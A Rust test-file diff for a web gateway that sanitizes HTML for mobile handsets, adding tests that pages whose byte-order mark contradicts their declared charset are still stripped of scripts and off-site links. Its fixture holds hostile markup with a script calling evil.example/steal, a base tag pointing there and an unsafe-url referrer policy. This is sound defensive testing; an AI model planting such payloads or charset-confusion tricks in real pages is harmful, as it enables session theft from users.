@@ -135,6 +135,27 @@ fn cp_app() -> Router {
              "<html><body><form action=\"/cp/echo\" method=\"get\"><input type=\"hidden\" name=\"guid\" value=\"ON\"></form>\
               <form action=\"/cp/form\" method=\"post\"><input type=\"hidden\" name=\"guid\" value=\"ON\"></form></body></html>")
         }))
+        .route("/cp/bom/{kind}", get(|headers: HeaderMap, Path(kind): Path<String>| async move {
+            let host = headers.get("host").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
+            let page = hostile_markup(&host);
+            // The declared charset is not the one the mark names.
+            let (declared, body) = match kind.as_str() {
+                "utf-16le" => ("windows-1252", bom_encoded(&page, Bom::Utf16Le)),
+                "utf-16be" => ("windows-1252", bom_encoded(&page, Bom::Utf16Be)),
+                _ => ("Shift_JIS", bom_encoded(&page, Bom::Utf8)),
+            };
+            ([("content-type", format!("text/html; charset={declared}"))], body)
+        }))
+        .route("/cp/uncovered", get(|| async {
+            // Only once the script before it is removed does the page start
+            // with a UTF-16 mark; what follows reads as markup only in UTF-16.
+            let mut body = b"<script></script>".to_vec();
+            body.extend(bom_encoded("<script>steal()</script><p>x</p>", Bom::Utf16Le));
+            ([("content-type", "text/html; charset=windows-1252")], body)
+        }))
+        .route("/cp/uncovered8", get(|| async {
+            ([("content-type", "text/html; charset=utf-8")], "<script></script>\u{feff}<p>after the mark</p>")
+        }))
         .route("/cp/typed/{n}", get(|Path(n): Path<usize>| async move {
             let mut r = axum::response::Response::new(axum::body::Body::from(
                 "<html><body><script>steal()</script><a href=\"http://evil.example/\">away</a></body></html>",
@@ -153,6 +174,9 @@ fn cp_app() -> Router {
             ([("content-type", "Text/Plain; Charset=\"euc-jp\"; format=flowed")], euc.into_owned())
         }))
         .route("/cp/plain.txt", get(|| async { ([("content-type", "text/plain")], "plain <b>text</b>") }))
+        .route("/cp/bom.txt", get(|| async {
+            ([("content-type", "text/plain; charset=windows-1252")], bom_encoded("天気", Bom::Utf16Le))
+        }))
         .route("/cp/upper.gif", get(|| async { ([("content-type", "IMAGE/GIF; name=\"logo.gif\"")], b"GIF89a\x01\x00\x01\x00".to_vec()) }))
         .route("/cp/frames", get(|| async {
             ([("content-type", "text/html; charset=utf-8")],
@@ -176,6 +200,43 @@ fn cp_app() -> Router {
             ([("content-type", "text/html; charset=utf-8")], body)
         }));
     app
+}
+
+/// A page that tries everything a slip of the sanitizer would let through:
+/// a script, a `<base>` pointing away, off-site links and an image, and a
+/// referrer policy that would send the handset's session URL along.
+fn hostile_markup(host: &str) -> String {
+    format!(
+        "<html><head><meta name=\"referrer\" content=\"unsafe-url\"><base href=\"http://evil.example/\">\
+         <script>fetch('http://evil.example/steal')</script></head><body>天気予報<br>\
+         <a href=\"http://evil.example/off\">off</a><a href=\"http://{host}/cp/next.html\">next</a>\
+         <a href=\"rel.html\">rel</a><img src=\"http://evil.example/i.gif\"></body></html>"
+    )
+}
+
+/// Which byte-order mark a page starts with.
+#[derive(Clone, Copy)]
+enum Bom {
+    Utf8,
+    Utf16Le,
+    Utf16Be,
+}
+
+/// `text` after a byte-order mark, in the encoding the mark names.
+fn bom_encoded(text: &str, bom: Bom) -> Vec<u8> {
+    match bom {
+        Bom::Utf8 => [&b"\xef\xbb\xbf"[..], text.as_bytes()].concat(),
+        Bom::Utf16Le => [0xfeffu16]
+            .into_iter()
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_le_bytes)
+            .collect(),
+        Bom::Utf16Be => [0xfeffu16]
+            .into_iter()
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_be_bytes)
+            .collect(),
+    }
 }
 
 /// Content-Type values that are not exactly one media type.
@@ -1457,6 +1518,90 @@ fn off_gateway_urls(page: &str, sid: &str) -> Vec<String> {
         .collect()
 }
 
+/// Whether `bytes` start with a UTF-8, UTF-16LE or UTF-16BE byte-order mark.
+fn starts_with_bom(bytes: &[u8]) -> bool {
+    bytes.starts_with(b"\xef\xbb\xbf")
+        || bytes.starts_with(b"\xff\xfe")
+        || bytes.starts_with(b"\xfe\xff")
+}
+
+#[tokio::test]
+async fn a_page_with_a_byte_order_mark_is_read_by_the_mark_whatever_its_charset_says() {
+    let (app, _, _menus) = setup().await;
+    for ua in [P501I, PC] {
+        let handset = app.handset(TARO, ua).await;
+        let sid = &handset.sid;
+        for kind in ["utf-16le", "utf-16be", "utf-8"] {
+            let page = handset.get(&format!("/s/{sid}/g/cp/bom/{kind}")).await;
+            let what = format!("{kind} as {ua}");
+            assert_eq!(page.status, StatusCode::OK, "{what}: {}", page.text);
+            let charset = if ua == PC { "UTF-8" } else { "Shift_JIS" };
+            assert_eq!(
+                page.header("content-type"),
+                format!("text/html; charset={charset}"),
+                "{what}"
+            );
+            assert!(
+                !starts_with_bom(&page.bytes),
+                "{what}: {:02x?}",
+                &page.bytes[..4]
+            );
+            assert!(!page.bytes.contains(&0), "{what}: no UTF-16 left");
+            assert!(page.text.contains("天気予報"), "{what}: {}", page.text);
+            for gone in [
+                "<script",
+                "<base",
+                "referrer",
+                "unsafe-url",
+                "http://",
+                "//evil",
+            ] {
+                assert!(!page.text.contains(gone), "{what}: {gone} in {}", page.text);
+            }
+            assert_eq!(
+                off_gateway_urls(&page.text, sid),
+                Vec::<String>::new(),
+                "{what}"
+            );
+            assert!(
+                page.text
+                    .contains(&format!("href=\"/s/{sid}/g/cp/next.html\""))
+                    && page
+                        .text
+                        .contains(&format!("href=\"/s/{sid}/g/cp/bom/rel.html\"")),
+                "{what}: {}",
+                page.text
+            );
+            let removed = page.header("x-garake-removed");
+            assert!(
+                ["script=1", "base=1", "meta referrer=1"]
+                    .iter()
+                    .all(|r| removed.contains(r)),
+                "{what}: {removed}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_mark_the_sanitizer_uncovers_is_not_read_as_one() {
+    let (app, _, _menus) = setup().await;
+    for ua in [P501I, PC] {
+        let handset = app.handset(TARO, ua).await;
+        let sid = &handset.sid;
+        let page = handset.get(&format!("/s/{sid}/g/cp/uncovered")).await;
+        assert_eq!(page.status, StatusCode::OK, "{}", page.text);
+        assert!(!starts_with_bom(&page.bytes), "{ua}: {:02x?}", page.bytes);
+        // Read as a browser reads it, by any mark at its start.
+        let (read, _) = encoding_rs::SHIFT_JIS.decode_with_bom_removal(&page.bytes);
+        assert!(!read.contains("<script"), "{ua}: {read}");
+        assert!(!page.text.contains("<script"), "{ua}: {}", page.text);
+        let page = handset.get(&format!("/s/{sid}/g/cp/uncovered8")).await;
+        assert!(!starts_with_bom(&page.bytes), "{ua}: {:02x?}", page.bytes);
+        assert!(page.text.contains("after the mark"), "{ua}: {}", page.text);
+    }
+}
+
 #[tokio::test]
 async fn a_content_type_that_is_not_exactly_one_media_type_is_refused() {
     let (app, _, _menus) = setup().await;
@@ -1512,12 +1657,15 @@ async fn text_and_images_go_with_a_content_type_garake_chose() {
         "text/plain; charset=Shift_JIS"
     );
     assert_eq!(plain.text, "plain <b>text</b>");
+    // A mark names the text's charset, as the browser will read it.
+    let bom = handset.get(&path("bom.txt")).await;
+    assert_eq!(bom.header("content-type"), "text/plain; charset=UTF-16LE");
     let gif = handset.get(&path("upper.gif")).await;
     assert_eq!(
         (gif.status, gif.header("content-type")),
         (StatusCode::OK, "image/gif")
     );
-    for r in [&notes, &plain, &gif] {
+    for r in [&notes, &plain, &bom, &gif] {
         assert_eq!(r.headers.get_all("content-type").iter().count(), 1);
         assert_eq!(r.header("x-content-type-options"), "nosniff");
     }
